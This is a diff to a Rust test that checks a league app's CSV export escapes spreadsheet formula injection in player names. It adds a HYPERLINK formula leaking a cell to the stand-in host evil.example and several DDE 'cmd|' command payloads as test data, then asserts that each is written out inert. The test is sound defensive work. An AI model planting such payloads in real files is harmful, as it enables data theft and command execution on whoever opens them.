@@ -186,7 +186,20 @@ fn the_first_round_is_shuffled_the_same_way_and_later_ones_follow_the_standings(
     let order: Vec<i64> = second.iter().flat_map(|t| t.seats.iter().flatten().copied()).collect();
     assert_eq!(order, expected, "Swiss: tables filled in standings order");
     assert_eq!(second.len(), 3);
-    let named = |u: i64| (u == n.players[0]).then(|| "Ann, \"the\" first".to_string());
+    // Display names people chose to attack whoever opens the file (#61):
+    // each opens as the text it is, never as a formula.
+    let hostile = [
+        "=HYPERLINK(\"http://evil.example/?\"&A1,\"Click\")",
+        "+1+cmd|' /C calc'!A0",
+        "-2+3+cmd|' /C calc'!A0",
+        "@SUM(1+1)*cmd|' /C calc'!A0",
+        "\t=1+1",
+    ];
+    let named = |u: i64| match n.players.iter().position(|&p| p == u) {
+        Some(0) => Some("Ann, \"the\" first".to_string()),
+        Some(i) => hostile.get(i - 1).map(|h| h.to_string()),
+        None => None,
+    };
     let csv = n.csv(named);
     assert!(csv.starts_with("round,table,game,name,user,place,points\n"), "{csv}");
     assert!(
@@ -206,12 +219,49 @@ fn the_first_round_is_shuffled_the_same_way_and_later_ones_follow_the_standings(
         csv.contains(&format!("\"Ann, \"\"the\"\" first\",\"=\"\"{first}\"\"\"")),
         "{csv}"
     );
-    assert!(
-        csv.lines()
-            .skip(1)
-            .all(|l| l.is_empty() || l.starts_with("rank,") || l.split(',').count() >= 7),
-        "{csv}"
-    );
+    // Every cell read back as a spreadsheet reads it: a name is the name
+    // behind a `'` where it would start a formula; the only formula is our
+    // own id's `="digits"`.
+    let mut names_seen = 0;
+    for line in csv.lines().skip(1).filter(|l| !l.is_empty() && !l.starts_with("rank,")) {
+        let cells = csv_cells(line);
+        assert!(cells.len() >= 7, "{line}");
+        let name = if line.starts_with(|c: char| c.is_ascii_digit()) && cells.len() == 7 {
+            &cells[3]
+        } else {
+            &cells[1]
+        };
+        for cell in &cells {
+            let formula = cell.starts_with(['=', '+', '@', '\t', '\r'])
+                || (cell.starts_with('-') && cell.parse::<f64>().is_err());
+            let own_id = cell.starts_with("=\"") && cell[2..].trim_end_matches('"').chars().all(|c| c.is_ascii_digit());
+            assert!(!formula || own_id, "a cell a spreadsheet would run: {cell:?} in {line}");
+        }
+        if let Some(h) = hostile.iter().find(|h| name.as_str() == format!("'{h}")) {
+            names_seen += 1;
+            assert!(name.ends_with(h));
+        }
+    }
+    assert!(names_seen >= hostile.len(), "every hostile name written, inert:\n{csv}");
+}
+
+/// The cells of one CSV line, unquoted as RFC 4180 reads them.
+fn csv_cells(line: &str) -> Vec<String> {
+    let mut cells = vec![String::new()];
+    let mut quoted = false;
+    let mut chars = line.chars().peekable();
+    while let Some(c) = chars.next() {
+        match (c, quoted) {
+            ('"', true) if chars.peek() == Some(&'"') => {
+                chars.next();
+                cells.last_mut().unwrap().push('"');
+            }
+            ('"', _) => quoted = !quoted,
+            (',', false) => cells.push(String::new()),
+            (c, _) => cells.last_mut().unwrap().push(c),
+        }
+    }
+    cells
 }
 
 async fn stores_and_reads_back(league: &impl LeagueStore) {
